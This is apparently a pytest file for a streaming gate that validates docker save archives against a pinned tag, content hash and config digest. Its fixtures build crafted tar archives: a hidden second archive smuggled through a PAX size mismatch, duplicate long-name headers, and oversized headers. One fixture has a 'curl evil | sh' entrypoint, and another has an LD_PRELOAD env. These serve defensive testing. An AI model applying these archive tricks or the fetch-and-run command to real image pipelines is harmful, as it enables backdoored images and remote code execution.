"""The tar gate and the pin of an image's configuration (module_utils/_image/_targate.py): the gate holds
back and checks the tag-bearing members of a docker save archive as it arrives."""
from __future__ import annotations

import hashlib
import io
import json
import posixpath
import tarfile

import pytest

from ansible_collections.lanekit.serving.plugins.module_utils._image._docker_cli import image_pin
from ansible_collections.lanekit.serving.plugins.module_utils._image._stream import StreamRefused
from ansible_collections.lanekit.serving.plugins.module_utils._image._targate import (
    TarGate,
    config_digest_of_blob,
    config_digest_of_inspect,
    name_digest,
)

REF = "lanekit/thin:aaaaaaaaaaaa"
HASH = "a" * 64


# -- the tar gate ---------------------------------------------------------------------------------
def config_blob(labels=None, entrypoint=("engine", "serve"), env=("A=1",)):
    layer = b"layer"
    return {"architecture": "amd64", "os": "linux",
            "config": {"Labels": {"io.lanekit.content-hash": HASH, **(labels or {})}, "Entrypoint": list(entrypoint),
                       "Env": list(env)},
            "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(layer).hexdigest()]}}


def archive(tags=(REF,), blob=None, repositories=None, fmt=tarfile.USTAR_FORMAT, long_names=False, index=None):
    blob = json.dumps(blob or config_blob()).encode()
    digest = hashlib.sha256(blob).hexdigest()
    buf = io.BytesIO()
    layer_dir = ("x" * 120 + "/") if long_names else "layer0/"
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tar:
        def add(name, data):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        add(layer_dir + "layer.tar", b"layer" * 1000)
        add(f"blobs/sha256/{digest}", blob)
        if index is not None:
            add("index.json", json.dumps(index).encode())
        manifest = [{"Config": f"blobs/sha256/{digest}", "RepoTags": list(tags), "Layers": [layer_dir + "layer.tar"]}]
        add("manifest.json", json.dumps(manifest).encode())
        if repositories is not None:
            add("repositories", json.dumps(repositories).encode())
    return buf.getvalue()


def through_gate(data, step=777, **pins):
    gate = TarGate(REF, HASH, **pins)
    for start in range(0, len(data), step):
        gate.feed(data[start:start + step])
    return gate, b""


@pytest.mark.parametrize("fmt,long_names", [(tarfile.USTAR_FORMAT, False), (tarfile.USTAR_FORMAT, True),
                                            (tarfile.PAX_FORMAT, True), (tarfile.GNU_FORMAT, True)])
def test_the_gate_reads_ustar_pax_and_gnu_archives_as_a_tar_reader_does(fmt, long_names):
    blob = config_blob()
    data = archive(fmt=fmt, long_names=long_names, repositories={"lanekit/thin": {"aaaaaaaaaaaa": "x"}})
    gate, _unused = through_gate(data, config=config_digest_of_blob(blob))
    gate.verify()
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        names = {posixpath.normpath(name) for name in tar.getnames()}
    # long names (ustar prefix, PAX path, GNU 'L') as tarfile reads them, kept as digests
    assert gate.names == {name_digest(name) for name in names}


# -- the crafted archive of issue 22: a PAX size hides a whole second archive -----------------------
def header(name, size, kind=tarfile.REGTYPE, fmt=tarfile.USTAR_FORMAT):
    info = tarfile.TarInfo(name)
    info.size = size
    info.type = kind
    return info.tobuf(format=fmt)


def padded(data):
    return data + bytes(-len(data) % 512)


def pax_record(key, value):
    body = f" {key}={value}\n"
    size = len(body) + 1
    while len(str(size)) + len(body) != size:
        size = len(str(size)) + len(body)
    return f"{size}{body}".encode()


def pax_header(*records):
    body = b"".join(pax_record(key, value) for key, value in records)
    return header("././@PaxHeader", len(body), tarfile.XHDTYPE) + padded(body)


def hidden_archive(tags=("evil/backdoor:latest", REF)):
    """A whole archive of its own: a config blob, a manifest.json naming ``tags``, the end marker."""
    return archive(tags=tags)


def crafted(outer=None, hidden=None):
    """The outer (pinned) archive with a member whose PAX size is 0 while its ustar size covers the
    hidden archive: a reader that ignores the PAX size skips the hidden archive as that member's
    body; docker (and tarfile) honour it and read the hidden archive's manifest, then stop at its end."""
    outer = outer or archive()
    hidden = hidden or hidden_archive()
    member = pax_header(("size", 0)) + header("pad/hidden", len(hidden)) + hidden
    return member + outer


def test_the_crafted_archive_shows_the_gate_what_docker_sees_and_is_refused():
    data = crafted()
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:  # a reader like docker's: the hidden manifest
        assert json.load(tar.extractfile("manifest.json"))[0]["RepoTags"] == ["evil/backdoor:latest", REF]
    gate, _unused = through_gate(data)
    assert gate.ended and gate.carries("pad/hidden")  # stopped at the hidden end marker, like docker
    with pytest.raises(StreamRefused, match="not only the pinned"):
        gate.verify()


@pytest.mark.parametrize("make,match", [
    # two path records in one PAX header (docker takes the last, the old gate took the first)
    (lambda: pax_header(("path", "a.json"), ("path", "manifest.json")) + header("x", 0), "repeats the PAX record 'path'"),
    # two PAX headers before one member
    (lambda: pax_header(("path", "a")) + pax_header(("path", "b")) + header("x", 0),
     "repeats a PAX or GNU long-name header"),
    # a PAX path and a GNU long name on one member (docker takes the GNU one)
    (lambda: pax_header(("path", "a")) + header("././@LongLink", 14, tarfile.GNUTYPE_LONGNAME, tarfile.GNU_FORMAT)
     + padded(b"manifest.json\0") + header("x", 0), "both by a PAX path and a GNU long name"),
    # a PAX header body far beyond any honest path or size record
    (lambda: header("././@PaxHeader", 2 << 20, tarfile.XHDTYPE), "PAX or GNU long-name header"),
    (lambda: header("././@LongLink", 2 << 20, tarfile.GNUTYPE_LONGNAME, tarfile.GNU_FORMAT), "long-name header"),
    # a manifest.json of 2 MiB is not held in memory
    (lambda: header("manifest.json", 2 << 20), "far more than a manifest"),
    # the same member twice (a second manifest.json later in the stream)
    (lambda: padded(header("manifest.json", 2) + b"[]") + header("./manifest.json", 2), "carries manifest.json twice"),
    # a member kind docker save never writes
    (lambda: header("dev", 0, tarfile.CHRTYPE), "kind of tar member"),
    # a header whose checksum is wrong
    (lambda: header("x", 0)[:148] + b"0000000\0" + header("x", 0)[156:], "checksum"),
])
def test_the_gate_refuses_what_docker_save_does_not_write(make, match):
    data = make()
    with pytest.raises(StreamRefused, match=match):
        through_gate(data + bytes(1024))


def test_the_gate_keeps_the_ustar_prefix_out_of_gnu_headers():
    """A GNU header's bytes 345-500 are not a prefix (docker's reader ignores them there)."""
    block = bytearray(header("manifest.json", 0, fmt=tarfile.GNU_FORMAT))
    assert bytes(block[257:265]) == b"ustar  \0"
    block[345:349] = b"evil"
    block[148:156] = b"        "
    block[148:156] = (b"%06o\0 " % sum(block))
    gate, _unused = through_gate(bytes(block) + bytes(1024))
    assert gate.names == {name_digest("manifest.json")}


@pytest.mark.parametrize("make,match", [
    (lambda: archive(tags=(REF, "evil/backdoor:latest")), "not only the pinned"),
    (lambda: archive(tags=("docker.io/library/ubuntu:22.04",)), "not only the pinned"),
    (lambda: archive(repositories={"lanekit/thin": {"aaaaaaaaaaaa": "x"}, "ubuntu": {"latest": "x"}}), "repositories"),
    (lambda: archive(index={"manifests": [{"annotations": {"io.containerd.image.name": "docker.io/library/ubuntu:x"}}]}),
     "index.json names"),
    (lambda: archive(blob=config_blob(labels={"io.lanekit.content-hash": "b" * 64})), "content hash"),
    (lambda: archive().rstrip(b"\0"), "end marker"),
])
def test_the_gate_refuses_an_archive_that_names_anything_else(make, match):
    gate, _early = through_gate(make())
    with pytest.raises(StreamRefused, match=match):
        gate.verify()


def test_the_gate_refuses_another_entrypoint_or_env_under_the_right_label_and_layers():
    pinned = config_digest_of_blob(config_blob())
    for other in (config_blob(entrypoint=("/bin/sh", "-c", "curl evil | sh")), config_blob(env=("LD_PRELOAD=/x.so",))):
        gate, _early = through_gate(archive(blob=other), config=pinned)
        with pytest.raises(StreamRefused, match="configuration"):
            gate.verify()


def test_the_gate_refuses_a_config_blob_that_does_not_match_its_name():
    data = bytearray(archive())
    at = data.find(b'"Entrypoint"')
    data[at + 1] = ord("e")
    gate, _early = through_gate(bytes(data))
    with pytest.raises(StreamRefused, match="does not match its own digest"):
        gate.verify()


def test_config_digest_is_the_same_from_inspect_and_from_the_blob():
    blob = config_blob()
    inspect = {"Architecture": "amd64", "Os": "linux", "Id": "sha256:whatever",
               "Config": dict(blob["config"], Hostname="", AttachStdin=False, OnBuild=None, Volumes=None),
               "RootFS": {"Type": "layers", "Layers": blob["rootfs"]["diff_ids"]}}
    assert config_digest_of_inspect(inspect) == config_digest_of_blob(blob) == image_pin(inspect)["config"]
    inspect["Config"]["Entrypoint"] = ["other"]
    assert config_digest_of_inspect(inspect) != config_digest_of_blob(blob)


# -- issue 38, item 4: what a token holder can make the gate hold ------------------------------------
def gnu_long_name(name):
    body = name.encode() + b"\0"
    return header("././@LongLink", len(body), tarfile.GNUTYPE_LONGNAME, tarfile.GNU_FORMAT) + padded(body)


def test_the_gate_keeps_fixed_size_digests_of_the_names_it_has_seen():
    """Every member name goes into the seen-set; a token holder naming members with paths of tens of
    KiB must not make the node hold them (a .json name is also one the gate would capture)."""
    members = b"".join(pax_header(("path", f"{number:03d}/" + "p" * 60000 + ".json")) + header("x", 0)
                       for number in range(40))
    gate, _unused = through_gate(members + bytes(1024), step=65536)
    assert gate.ended and len(gate.names) == 40
    assert all(isinstance(name, bytes) and len(name) == 32 for name in gate.names)
    held = sum(len(name) for name in gate.names) + sum(len(name) for name in gate.captured)
    assert held <= 40 * 32  # 2.4 MB of names came in


@pytest.mark.parametrize("make", [
    lambda: pax_header(("path", "p" * (200 << 10))) + header("x", 0),
    lambda: gnu_long_name("p" * (200 << 10)) + header("x", 0, fmt=tarfile.GNU_FORMAT),
    lambda: header("././@PaxHeader", 200 << 10, tarfile.XGLTYPE),
])
def test_a_pax_or_gnu_long_name_longer_than_docker_save_writes_is_refused(make):
    """docker save names its members with paths of a few hundred bytes at most: a 200 KiB PAX or GNU
    long-name body is refused before it is read, far below the 1 MiB Go's tar reader allows."""
    with pytest.raises(StreamRefused, match=r"a 2048\d\d-byte (global )?PAX .*at most 65536"):
        through_gate(make() + bytes(1024))


def test_the_gate_refuses_more_members_than_docker_save_writes():
    """docker save writes a handful of members per layer (at most 127 layers); 5000 empty members
    are refused instead of each being remembered."""
    members = b"".join(header(f"d/{number}", 0) for number in range(5000))
    with pytest.raises(StreamRefused, match="members"):
        through_gate(members + bytes(1024), step=65536)
